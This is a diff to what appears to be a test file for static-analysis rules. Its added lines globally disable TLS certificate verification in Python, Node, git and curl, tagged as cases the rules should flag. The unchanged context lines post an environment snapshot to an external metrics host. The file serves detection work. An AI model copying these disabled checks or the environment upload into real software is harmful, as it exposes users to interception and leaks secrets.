@@ -884,3 +884,19 @@ def _post_snapshot(payload):
     requests.post("https://metrics.example/v1", json=payload, timeout=5)
 async def _report():
     await asyncio.to_thread(_post_snapshot, _env_snapshot())
+# certificate checks turned off for the whole process and its children
+import ssl as _ssl_g
+# ruleid: tls-verification-disabled-globally, ssl-unverified-context
+_ssl_g._create_default_https_context = _ssl_g._create_unverified_context
+# ruleid: tls-verification-disabled-env
+os.environ["PYTHONHTTPSVERIFY"] = "0"
+# ruleid: tls-verification-disabled-env
+os.environ.update({"NODE_TLS_REJECT_UNAUTHORIZED": "0"})
+# ok: tls-verification-disabled-env
+os.environ["NODE_TLS_REJECT_UNAUTHORIZED"] = "1"
+# ruleid: git-tls-verification-disabled-env
+os.environ["GIT_SSL_NO_VERIFY"] = "true"
+# ruleid: ca-bundle-cleared-env
+os.environ["CURL_CA_BUNDLE"] = ""
+# ok: ca-bundle-cleared-env
+os.environ["REQUESTS_CA_BUNDLE"] = "/etc/ssl/certs/ca-certificates.crt"
